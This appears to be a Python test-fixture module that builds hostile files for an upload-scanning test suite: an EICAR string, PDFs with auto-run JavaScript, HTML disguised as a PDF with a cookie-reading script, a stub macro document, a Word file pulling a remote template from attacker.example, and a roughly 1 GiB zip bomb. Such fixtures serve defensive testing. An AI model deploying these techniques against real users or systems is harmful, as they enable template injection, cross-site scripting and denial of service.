"""Good and hostile files, built when a test needs them (nothing big is ever committed)."""

import io
import zipfile

import docx
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

# The EICAR test file: every virus scanner reports it, and it does nothing.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf(*, open_action_js: str = "", javascript: str = "") -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if javascript:  # a document-level script, in the catalogue's /Names tree
        scripts = ArrayObject([TextStringObject("on-open"), writer._add_object(_js_action(javascript))])
        names = DictionaryObject(
            {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): scripts})}
        )
        writer._root_object[NameObject("/Names")] = names
    if open_action_js:
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(_js_action(open_action_js))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _js_action(script: str) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)}
    )


def html_calling_itself_a_pdf() -> bytes:
    return b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n"


def docx_file(text: str = "Speech and language therapy report") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _rewritten(data: bytes, change) -> bytes:
    """A copy of a zip with `change(name, bytes)` applied to each part (None drops it)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            content = change(name, source.read(name))
            if content is not None:
                target.writestr(name, content)
    return out.getvalue()


def docm_file() -> bytes:
    """A macro-enabled Word document: its macros in word/vbaProject.bin."""
    with_macros = _rewritten(docx_file(), lambda name, content: content)
    out = io.BytesIO(with_macros)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512)
    return out.getvalue()


def docx_with_remote_template() -> bytes:
    relationship = (
        b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
    )

    def change(name, content):
        if name == "word/_rels/settings.xml.rels" or name == "word/_rels/document.xml.rels":
            return content.replace(b"</Relationships>", relationship + b"</Relationships>")
        return content

    return _rewritten(docx_file(), change)


def docx_bomb(megabytes: int = 1024) -> bytes:
    """A zip with the parts of a Word document whose document.xml inflates to `megabytes` MiB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with zipfile.ZipFile(io.BytesIO(docx_file())) as good:
            for name in good.namelist():
                if name != "word/document.xml":
                    archive.writestr(name, good.read(name))
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            chunk = b" " * (1 << 20)
            for _ in range(megabytes):
                part.write(chunk)
    return out.getvalue()


def csv_with_nul_bytes() -> bytes:
    return b"year_january,total\n2024,100\x00\x00\n2025,120\n"
